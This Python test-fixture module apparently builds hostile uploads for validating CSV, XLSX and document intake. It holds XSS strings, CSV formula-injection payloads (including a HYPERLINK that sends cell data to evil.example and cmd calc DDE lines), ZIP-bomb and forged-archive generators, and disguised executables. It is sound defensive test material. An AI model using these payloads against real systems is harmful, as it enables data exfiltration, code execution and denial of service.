"""Hostile inputs, built in code (no binary files in the repository): broken CSV and XLSX
files around a valid row of any of the FORMATS.md formats, bad documents for the evidence
and report uploads, bad values for form fields, and HTML/JS payloads for every text field.

Each file case says what the answer must name (`expect`: words of which at least one must be
in the message, case-insensitive), or that the file is fine (`accepted`): a byte-order mark,
columns in another order and an extra column are allowed by FORMATS.md.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from functools import lru_cache

MB = 1024 * 1024

# --- Payloads for text fields ---------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}{% now 'Y' %}"
JS_URL = "javascript:alert(1)"
XSS_PAYLOADS = {"script": SCRIPT, "img": IMG, "template": TEMPLATE, "js_url": JS_URL}

# What must never be in an HTML page, and what shows it was escaped instead.
UNESCAPED_MARKERS = ("<script>alert(1)", "<img src=x onerror")
ESCAPED_MARKERS = ("&lt;script&gt;alert(1)", "&lt;img src=x onerror")

# --- Hostile values for one field or cell ----------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1+1",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NUMBERS = {
    "billion": "1000000000",
    "1e18": "1000000000000000000",
    "negative": "-5",
    "nan": "NaN",
    "inf": "inf",
    "1e309": "1e309",
    "comma": "1,5",
    "text": "lots",
}
DATES = {"feb30": "2023-02-30", "zeros": "0000-00-00", "text": "yesterday", "year1": "0001-01-01"}
TEXTS = {
    "nul": "abc\x00def",
    "long": "x" * 100_000,
    "rtl_override": "\u202egnp.exe",
    "emoji": "💎" * 10,
}


# --- CSV / XLSX files ---------------------------------------------------------------------------


@dataclass(frozen=True)
class FileCase:
    id: str
    name: str
    data: bytes
    expect: tuple[str, ...] = ()  # words the message must hold (one of them)
    accepted: bool = False  # the file is fine and must be taken
    either: bool = False  # taken or refused, as the rules say: only whole, named, no crash
    column: str = ""  # the column the message must name, when one is to blame


@dataclass(frozen=True)
class CsvFormat:
    """One FORMATS.md format: its columns and a builder of a valid row."""

    columns: tuple[str, ...]
    row: Callable[[], dict[str, str]]
    numeric: tuple[str, ...]
    dates: tuple[str, ...] = ()
    texts: tuple[str, ...] = ()
    codes: tuple[str, ...] = ()  # columns holding a code (participant, HS code)
    filename: str = "data.csv"
    extra: Mapping[str, str] = field(default_factory=dict)


def csv_bytes(
    rows: Sequence[Mapping[str, str]],
    columns: Sequence[str],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(
    rows: Sequence[Sequence[object]], *, formulas: Mapping[tuple[int, int], str] = {}
) -> bytes:
    """A real workbook; `formulas` put formulas (without cached values, as openpyxl writes
    them) at (row, column), 1-based."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    for (r, c), formula in formulas.items():
        sheet.cell(row=r, column=c, value=formula)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@lru_cache(maxsize=1)
def zip_bomb_xlsx(unpacked_mb: int = 512) -> bytes:
    """A workbook whose first sheet is `unpacked_mb` MB of blanks inside <sheetData>: about
    half a megabyte packed, and every member an .xlsx needs, so only its size gives it away."""
    template = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["participant"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in template.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info, template.read(info.filename))
                continue
            member = zipfile.ZipInfo(info.filename)
            member.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(member, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main"><sheetData>'
                )
                blank = b" " * MB
                for _ in range(unpacked_mb):
                    sheet.write(blank)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def lying_zip_xlsx() -> bytes:
    """A workbook whose directory claims a 4 GB sheet (a damaged or forged archive)."""
    data = bytearray(xlsx_bytes([["participant"], ["BWA"]]))
    # Patch the uncompressed size (offset 24 in the central directory record) of every member.
    position = data.find(b"PK\x01\x02")
    while position != -1:
        data[position + 24 : position + 28] = (0xFFFFFFF0).to_bytes(4, "little")
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def file_cases(fmt: CsvFormat) -> list[FileCase]:
    """Every hostile file for `fmt`: encodings, delimiters, headers, cells, workbooks."""
    columns = list(fmt.columns)
    good = fmt.row()
    name = fmt.filename
    stem = name.rsplit(".", 1)[0]
    cases = [
        FileCase("bom", name, b"\xef\xbb\xbf" + csv_bytes([good], columns), accepted=True),
        FileCase("reordered_columns", name, csv_bytes([fmt.row()], columns[::-1]), accepted=True),
        FileCase(
            "extra_column",
            name,
            csv_bytes([{**fmt.row(), "remarks": "x"}], [*columns, "remarks"]),
            accepted=True,
        ),
        FileCase(
            "utf16", name, csv_bytes([fmt.row()], columns, encoding="utf-16"), expect=("UTF-16",)
        ),
        FileCase(
            "latin1",
            name,
            csv_bytes(
                [{**fmt.row(), **dict.fromkeys(fmt.texts[:1], "Société Générale")}],
                columns,
                encoding="latin-1",
            )
            if fmt.texts
            else csv_bytes([fmt.row()], columns) + "Côte d'Ivoire\r\n".encode("latin-1"),
            expect=("UTF-8",),
        ),
        FileCase(
            "invalid_utf8",
            name,
            csv_bytes([fmt.row()], columns) + b"\xc3\x28\xa0\xa1,\r\n",
            expect=("UTF-8",),
        ),
        FileCase(
            "semicolons",
            name,
            csv_bytes([fmt.row()], columns, delimiter=";"),
            expect=("semicolon",),
        ),
        FileCase("tabs", name, csv_bytes([fmt.row()], columns, delimiter="\t"), expect=("lacks",)),
        FileCase(
            "missing_column",
            name,
            csv_bytes([fmt.row()], columns[:-1]),
            expect=(columns[-1],),
        ),
        FileCase(
            "duplicated_column",
            name,
            csv_bytes([fmt.row()], [*columns, columns[0]]),
            expect=("more than once",),
        ),
        FileCase(
            "extra_cells",
            name,
            csv_bytes([fmt.row()], columns).rstrip(b"\r\n") + b",surprise\r\n",
            expect=("without a column name", "surprise"),
        ),
        FileCase("header_only", name, csv_bytes([], columns), expect=("no data rows",)),
        FileCase("empty", name, b"", expect=("empty",)),
        FileCase("blank", name, b"\r\n \r\n", expect=("empty",)),
        FileCase(
            "unbalanced_quote",
            name,
            csv_bytes([fmt.row()], columns) + b'"never closed,\r\n',
            expect=("CSV", "quot"),
        ),
        FileCase(
            "nul_byte",
            name,
            csv_bytes([fmt.row()], columns).replace(b"\r\n", b"\x00\r\n", 2),
            expect=("NUL", "null", "CSV", "column name", "lacks", "not"),
        ),
        FileCase(
            "pdf_named_csv",
            name,
            b"%PDF-1.4\n1 0 obj << >> endobj\n",
            expect=("lacks", "header"),
        ),
        FileCase(
            "xlsx_named_csv",
            name,
            xlsx_bytes([columns, [good[c] for c in columns]]),
            expect=("ZIP", "XLSX"),
        ),
        FileCase(
            "zip_bomb_xlsx",
            f"{stem}.xlsx",
            zip_bomb_xlsx(),
            expect=("ZIP bomb", "would unpack"),
        ),
        FileCase(
            "lying_zip_xlsx",
            f"{stem}.xlsx",
            lying_zip_xlsx(),
            expect=("ZIP bomb", "would unpack", "not an Excel"),
        ),
        FileCase(
            "text_named_xlsx",
            f"{stem}.xlsx",
            csv_bytes([fmt.row()], columns),
            expect=("not an Excel",),
        ),
        FileCase(
            "xls_renamed_xlsx",
            f"{stem}.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
            expect=(".xls",),
        ),
        FileCase(
            "truncated_xlsx",
            f"{stem}.xlsx",
            xlsx_bytes([columns, [good[c] for c in columns]])[:300],
            expect=("not an Excel",),
        ),
        FileCase(
            "xlsx_with_formulas",
            f"{stem}.xlsx",
            xlsx_bytes(
                [columns, [good[c] for c in columns]],
                formulas={(2, columns.index(fmt.numeric[0]) + 1): "=1/0+SUM(A1:A9)"},
            ),
            expect=(fmt.numeric[0], "missing"),
            column=fmt.numeric[0],
        ),
        FileCase("pdf_extension", f"{stem}.pdf", b"%PDF-1.4\n", expect=("neither",)),
        FileCase("xls_extension", f"{stem}.xls", b"\xd0\xcf\x11\xe0", expect=(".xlsx",)),
    ]

    def with_cell(column: str, value: str) -> bytes:
        return csv_bytes([{**fmt.row(), column: value}], columns)

    for key, value in NUMBERS.items():
        cases.append(
            FileCase(
                f"{fmt.numeric[0]}_{key}",
                name,
                with_cell(fmt.numeric[0], value),
                expect=(fmt.numeric[0],),
                column=fmt.numeric[0],
                # 10⁹ carats fits the columns: whether it is an error or a warning is the
                # format's rule; it must never crash or be half-stored.
                either=key == "billion",
            )
        )
    for key, value in FORMULAS.items():
        column = (fmt.codes or fmt.numeric)[0]
        cases.append(
            FileCase(
                f"formula_{key}_in_{column}",
                name,
                with_cell(column, value),
                expect=(column,),
                column=column,
            )
        )
    for column in fmt.dates[:1]:
        for key, value in DATES.items():
            if key == "year1":
                continue
            cases.append(
                FileCase(
                    f"{column}_{key}",
                    name,
                    with_cell(column, value),
                    expect=(column,),
                    column=column,
                )
            )
    for column in fmt.texts[:1]:
        cases.append(
            FileCase(
                f"{column}_too_long",
                name,
                with_cell(column, "x" * 5000),
                expect=(column,),
                column=column,
            )
        )
    for key, value in fmt.extra.items():
        column, cell = key.split(":", 1)[0], value
        cases.append(
            FileCase(
                f"{column}_{key.split(':', 1)[1]}",
                name,
                with_cell(column, cell),
                expect=(column,),
                column=column,
            )
        )
    return cases


# --- Documents (evidence, annual reports) -------------------------------------------------------

PDF_BYTES = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"


def office_zip(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return buffer.getvalue()


@lru_cache(maxsize=1)
def docx_bomb(unpacked_mb: int = 256) -> bytes:
    """A .docx whose document.xml unpacks to `unpacked_mb` MB (of blanks)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        member = zipfile.ZipInfo("word/document.xml")
        member.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(member, "w", force_zip64=True) as document:
            blank = b" " * MB
            for _ in range(unpacked_mb):
                document.write(blank)
    return out.getvalue()


@dataclass(frozen=True)
class DocumentCase:
    id: str
    name: str
    data: bytes
    expect: tuple[str, ...]


def document_cases() -> list[DocumentCase]:
    """Documents that must be refused by every evidence or report upload."""
    return [
        DocumentCase(
            "html_named_pdf",
            "report.pdf",
            b"<html><body><script>alert(1)</script></body></html>",
            ("not a file type we accept",),
        ),
        DocumentCase(
            "svg_with_script",
            "seal.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            ("not a file type we accept",),
        ),
        DocumentCase(
            "exe_named_pdf", "scan.pdf", b"MZ\x90\x00\x03" + b"\0" * 64, ("not a file type",)
        ),
        DocumentCase("empty_pdf", "empty.pdf", b"", ("empty", "no file", "submitted")),
        DocumentCase("docx_bomb", "minutes.docx", docx_bomb(), ("ZIP bomb", "would unpack")),
        DocumentCase(
            "zip_not_office",
            "archive.docx",
            office_zip({"readme.txt": b"hello"}),
            ("not a file type",),
        ),
        DocumentCase(
            "script_name",
            '<script>alert(1)</script>".pdf',
            b"MZ not a pdf",
            ("not a file type",),
        ),
    ]


# --- Large bodies -------------------------------------------------------------------------------


def sparse_file(path: str, size: int) -> str:
    """A file of `size` bytes that takes no room on disk (its bytes are never written)."""
    with open(path, "wb") as handle:
        handle.truncate(size)
    return path
